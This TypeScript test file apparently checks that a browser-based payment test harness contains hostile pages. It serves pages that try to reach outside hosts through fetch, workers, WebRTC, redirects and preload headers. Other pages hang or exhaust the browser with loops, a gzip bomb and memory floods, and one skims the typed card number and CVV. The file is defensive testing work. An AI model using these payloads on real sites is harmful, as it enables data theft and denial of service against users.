import { createSocket } from 'node:dgram';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type ServerResponse } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { type Browser, chromium } from '@playwright/test';
import { browserBehind, findBrowser } from '#browser';
import { JOURNAL, Journal, Recorder, Redactor } from '#evidence';
import { CustomerBrowser, MessageReceiver, PageProxy, UnarrangedError, withPort } from '#harness';
import type { Target } from '#target';
import type { AttackTry } from './attack-tally.ts';

const MIB = 1024 * 1024;
const NUMBER = '5383908528354962';
const CODE = '8391';
/** Seconds that the customer waits for one thing. */
const PATIENCE = 2;
/** Seconds that all the customer does here may take: ten waits, and the browser's own start and end. */
const VISIT = 40;
/** Seconds in which the browser has to be gone. */
const GONE_WITHIN = 30;
/** Most that one page may add to a journal, in bytes. */
const JOURNAL_GROWTH = 4 * MIB;

/** A page: its HTML, or what the server does; `stranger` is an address that the target file does not name. */
type HostilePage = (stranger: string) => string | ((response: ServerResponse, path: string) => void);

const script =
  (code: string | ((stranger: string) => string)): HostilePage =>
  (stranger) =>
    `<script>${typeof code === 'string' ? code : code(stranger)}</script>`;
const FORM =
  '<form action="/paid" method="post"><input id="number" name="number"><input id="code" name="code"><button id="pay">Pay</button></form>';
const fetching = (host: string) =>
  `fetch('http://${host}/x',{mode:'no-cors'}).catch(()=>{});new WebSocket('ws://${host}/x')`;
const html = { 'content-type': 'text/html' };

const PAGES: Readonly<Record<string, HostilePage>> = {
  // Ways to a host that the target file does not name.
  'a script that fetches, sends a beacon and listens to events': script(
    (host) => `${fetching(host)};navigator.sendBeacon('http://${host}/x','x');new EventSource('http://${host}/x')`,
  ),
  'a shared worker': script(
    (host) => `new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(fetching(host))}])))`,
  ),
  'workers in workers': script((host) => {
    const inner = `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(fetching(host))}])))`;
    return `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])))`;
  }),
  'a service worker': (host) => (response, path) => {
    if (path === '/worker.js')
      response
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(
          `addEventListener('install',()=>{${fetching(host)}});addEventListener('fetch',(e)=>e.respondWith(fetch('http://${host}/x',{mode:'no-cors'})))`,
        );
    else response.writeHead(200, html).end(`${FORM}<script>navigator.serviceWorker.register('/worker.js')</script>`);
  },
  'a redirect': (host) => (response) => response.writeHead(302, { location: `http://${host}/x` }).end(),
  'a redirect that keeps the method': (host) => (response, path) =>
    path === '/paid'
      ? response.writeHead(307, { location: `http://${host}/x` }).end()
      : response.writeHead(200, html).end(FORM),
  'headers that lead elsewhere': (host) => (response) =>
    response
      .writeHead(200, {
        ...html,
        refresh: `0;url=http://${host}/x`,
        link: `<http://${host}/x>; rel=preload; as=script, <http://${host}>; rel=preconnect`,
        'alt-svc': `h2="${host}", h3="${host}"`,
        'reporting-endpoints': `default="http://${host}/x"`,
        'content-security-policy': `script-src 'none'; report-uri http://${host}/x; report-to default`,
      })
      .end(`<script>1</script>${FORM}`),
  'a prefetch, a preconnect and a prerender': (host) =>
    `<link rel="prefetch" href="http://${host}/x"><link rel="dns-prefetch" href="//${host}"><link rel="preconnect" href="http://${host}"><link rel="modulepreload" href="http://${host}/x.js"><script type="speculationrules">{"prerender":[{"urls":["http://${host}/x"]}],"prefetch":[{"urls":["http://${host}/y"]}]}</script>`,
  'pictures, frames, styles, objects and media': (host) =>
    `<img src="http://${host}/x"><iframe src="http://${host}/x"></iframe><style>@import url(http://${host}/x);body{background:url(http://${host}/y)}</style><object data="http://${host}/x"></object><embed src="http://${host}/x"><video src="http://${host}/x" poster="http://${host}/y"></video><svg><image href="http://${host}/x"/><use href="http://${host}/x#a"/></svg><link rel="icon" href="http://${host}/i"><link rel="manifest" href="http://${host}/m">`,
  'other names of this machine': (host) => {
    const port = host.split(':')[1];
    const names = [
      'localhost',
      'a.localhost',
      '[::1]',
      '0.0.0.0',
      '127.1',
      '127.0.0.2',
      '2130706433',
      '[::ffff:127.0.0.1]',
    ];
    return names
      .map((name) => `<iframe src="http://${name}:${port}/x"></iframe><img src="https://${name}:${port}/x">`)
      .join('');
  },
  'WebRTC over TCP and UDP': script((host) => {
    const urls = JSON.stringify([
      `stun:${host}`,
      `turn:${host}?transport=tcp`,
      `turn:${host}?transport=udp`,
      `turns:${host}`,
    ]);
    return `const c=new RTCPeerConnection({iceServers:[{urls:${urls},username:'a',credential:'b'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))`;
  }),
  'a web transport': script((host) => `new WebTransport('https://${host}/x').ready.catch(()=>{})`),
  'windows of other hosts': script(
    (host) =>
      `for(let i=0;i<20;i++)open('http://${host}/x'+i);const a=document.createElement('a');a.href='http://${host}/x';a.ping='http://${host}/p';a.target='_blank';document.documentElement.append(a);a.click()`,
  ),
  'a form whose answer goes elsewhere': (host) => FORM.replace('/paid', `http://${host}/x`),
  'a download': () => (response, path) =>
    path === '/'
      ? response
          .writeHead(200, html)
          .end(
            '<script>for(let i=0;i<30;i++){const a=document.createElement("a");a.href="/file"+i;a.download="x"+i;document.documentElement.append(a);a.click()}</script>',
          )
      : response
          .writeHead(200, { 'content-disposition': 'attachment', 'content-length': 64 * MIB })
          .end(Buffer.alloc(64 * MIB)),
  // Ways to hold whoever looks.
  'a loop': script('setTimeout(()=>{for(;;);},20)'),
  'a loop before anything is there': script('for(;;);'),
  'a loop in each frame': script(
    `if(top===self)for(let i=0;i<20;i++){const f=document.createElement('iframe');f.srcdoc='<script>for(;;);<\\/script>';document.documentElement.append(f)}`,
  ),
  'a loop when the button is pressed': () => `${FORM}<script>pay.addEventListener('click',()=>{for(;;);})</script>`,
  'a loop when something is typed': () => `${FORM}<script>number.addEventListener('input',()=>{for(;;);})</script>`,
  'a loop when the page is left': () =>
    `${FORM}<script>addEventListener('beforeunload',(e)=>{e.preventDefault();for(;;);});addEventListener('pagehide',()=>{for(;;);})</script>`,
  'dialogs one after the other': script('for(;;){alert(1);confirm(2);prompt(3)}'),
  'a page that reloads itself': script('location.reload()'),
  'redirects without end': () => (response, path) => response.writeHead(302, { location: `${path}x` }).end(),
  'an address that changes all the time': () =>
    `${FORM}<script>setInterval(()=>{for(let i=0;i<500;i++)history.pushState(0,'','/'+Math.random())})</script>`,
  'a body without end': () => (response) => {
    response.writeHead(200, html).write(FORM);
    const write = () => {
      while (!response.destroyed && response.write('<p>more</p>'.repeat(1000)));
    };
    response.on('drain', write);
    write();
  },
  'a body that drips': () => (response) => {
    response.writeHead(200, html).write(FORM);
    const drip = setInterval(() => response.write(' '), 100);
    response.once('close', () => clearInterval(drip));
  },
  'no answer': () => () => {},
  'a bomb': () => (response) =>
    response.writeHead(200, { ...html, 'content-encoding': 'gzip' }).end(gzipSync(Buffer.alloc(256 * MIB, '<b>'))),
  'a million elements': () => `${FORM}${'<i></i>'.repeat(1_000_000)}`,
  'elements in each other': () => `${'<div>'.repeat(100_000)}${FORM}`,
  'elements that multiply': script(
    'setInterval(()=>{for(let i=0;i<5000;i++)document.documentElement.append(document.createElement("input"))})',
  ),
  'all memory': script('const a=[];setInterval(()=>{for(let i=0;i<20;i++)a.push(new Uint8Array(8e6).fill(1))})'),
  'requests without end': script('setInterval(()=>{for(let i=0;i<50;i++)fetch("/x"+Math.random()).catch(()=>{})})'),
  'a console that never stops': script('setInterval(()=>{for(let i=0;i<2000;i++)console.log("4".repeat(1000))})'),
  'frames in frames': (_host) => (response) =>
    response.writeHead(200, html).end('<iframe src="/"></iframe><iframe src="/a"></iframe>'),
  'a frame that comes and goes': script(
    'setInterval(()=>{document.querySelectorAll("iframe").forEach(f=>f.remove());for(let i=0;i<20;i++)document.documentElement.append(document.createElement("iframe"))})',
  ),
  'a page that covers what it shows': () => `${FORM}<div style="position:fixed;inset:0;z-index:9"></div>`,
  'a button that runs away': () =>
    `${FORM}<script>setInterval(()=>{pay.style.cssText='position:fixed;left:'+Math.random()*500+'px;top:'+Math.random()*500+'px'})</script>`,
  // Ways to have a number photographed before anything is typed.
  'a number in its text': () => `${FORM}<p>${NUMBER}</p>`,
  'a number digit by digit in a closed shadow': () =>
    `${FORM}<p id="at"></p><script>at.attachShadow({mode:'closed'}).innerHTML='${[...NUMBER].map((digit) => `<i>${digit}</i>`).join('')}'</script>`,
  'a number that comes and goes': () =>
    `${FORM}<p id="at"></p><script>setInterval(()=>{at.textContent=at.textContent?'':'${NUMBER}'},1)</script>`,
  'a number that a style writes': () => `${FORM}<style>form::after{content:"${NUMBER}"}</style>`,
  'a number in a frame': () => `${FORM}<iframe srcdoc="<p>${NUMBER}</p>"></iframe>`,
  // Ways to have what was typed written down.
  'what was typed, sent home': () =>
    `${FORM}<script>setInterval(()=>{const n=number.value,c=code.value;if(!n)return;for(const t of [n,btoa(n),[...n].join(' '),encodeURIComponent(n.replace(/./g,(d)=>'%3'+d)),'cvv='+c,c])fetch('/take/'+t+'?t='+t,{method:'POST',body:JSON.stringify({note:t,cvv:c})}).catch(()=>{})},200)</script>`,
};

/** A browser behind the bounds of the checks, and strangers on this machine that count who comes. */
export interface PageAttack {
  readonly tries: readonly AttackTry[];
  close(): Promise<void>;
}

/** Opens what hosted pages are tried with; undefined where there is no browser. */
export async function openPageAttack(): Promise<PageAttack | undefined> {
  const executablePath = findBrowser();
  if (executablePath === undefined) return undefined;
  let calls = 0;
  const far = createTcpServer((socket) => {
    calls += 1;
    socket.on('error', () => {}).end('HTTP/1.1 204 No Content\r\n\r\n');
  });
  await new Promise<void>((done) => far.listen(0, done));
  const { port } = far.address() as AddressInfo;
  // WebRTC and QUIC ask by UDP.
  const datagrams = createSocket('udp4', () => {
    calls += 1;
  });
  await new Promise<void>((done) => datagrams.bind(port, done));
  const stranger = `127.0.0.1:${port}`;
  const tries = Object.entries(PAGES).map(([name, page]) => ({
    name,
    run: async () => {
      calls = 0;
      const through = await visit(executablePath, page(stranger));
      return calls > 0 ? `${calls} calls elsewhere` : through;
    },
  }));
  return {
    tries,
    close: async () => {
      datagrams.close();
      await new Promise((done) => far.close(done));
    },
  };
}

/** Lets a customer visit a page and pay there. @returns what got through */
async function visit(executablePath: string, page: ReturnType<HostilePage>): Promise<string | undefined> {
  const hosted = createServer((request, response) => {
    response.on('error', () => {});
    if (typeof page === 'function') page(response, request.url ?? '/');
    else response.writeHead(200, html).end(request.url === '/' ? `<!doctype html><title>Form</title>${page}` : '');
  });
  await new Promise<void>((done) => hosted.listen(0, '127.0.0.1', done));
  const address = `http://127.0.0.1:${(hosted.address() as AddressInfo).port}/`;
  const target = {
    kind: 'embedded',
    manners: { timeout: 2, patience: PATIENCE },
    gateway: { address, requestors: {} },
    pages: [],
    control: {},
    connection: {},
  } as unknown as Target;
  const folder = mkdtempSync(join(tmpdir(), 'assay-pages-'));
  const journal = new Journal(folder);
  const redactor = new Redactor();
  redactor.addCard(NUMBER);
  const recorder = new Recorder('c0000001', redactor, journal);
  const receiver = await MessageReceiver.open(target, recorder);
  const proxy = await PageProxy.open({ hosts: [withPort(address), withPort(receiver.address)] });
  const browser = await chromium.launch({ executablePath, ...browserBehind(proxy.address) });
  try {
    const opened = await browser.newPage();
    const customer = CustomerBrowser.open({
      name: 'first',
      page: opened,
      receiver,
      recorder,
      target,
      hurried: false,
      pictures: true,
    });
    const done = await Promise.race([pay(customer, address), wait(VISIT * 1000, 'held', { ref: false })]);
    if (done === 'held') return `held its customer for ${VISIT} s`;
    const written = readFileSync(join(folder, JOURNAL), 'utf8');
    if (written.length > JOURNAL_GROWTH) return `${written.length} bytes of journal`;
    if (written.includes(NUMBER) || new RegExp(`(?<![\\d.])${CODE}(?![\\d.])`).test(written))
      return 'what was typed is in the journal';
    if (
      typeof page === 'string' &&
      (page.includes(NUMBER) || page.replace(/<[^>]*>/g, '').includes(NUMBER)) &&
      written.includes('"kind":"picture"')
    )
      return 'a page that shows a number is photographed';
    return await end(browser);
  } finally {
    await end(browser);
    await proxy.close();
    await receiver.close();
    journal.close();
    hosted.closeAllConnections();
    await new Promise((done) => hosted.close(done));
    rmSync(folder, { recursive: true, force: true });
  }
}

/** What a check does with a page. That nothing of it comes about is the page's affair, and said as that. */
async function pay(customer: CustomerBrowser, address: string): Promise<void> {
  await customer.visit(address);
  await customer.keepPicture('the payment form');
  try {
    const card = { number: NUMBER, code: CODE, month: '10', year: '2049', holder: 'ADA TEST' };
    await customer.enterCard({ number: '#number', code: '#code' } as never, card as never);
    await wait(300);
    await customer.pressButton('#pay');
  } catch (error) {
    if (!(error instanceof UnarrangedError)) throw error;
  }
  await wait(300);
  await customer.findVisible('#never');
}

/** @returns what got through: a browser that does not end */
async function end(browser: Browser): Promise<string | undefined> {
  const closed = await Promise.race([
    browser.close().then(() => true),
    wait(GONE_WITHIN * 1000, false, { ref: false }),
  ]);
  return closed ? undefined : 'the browser does not end';
}
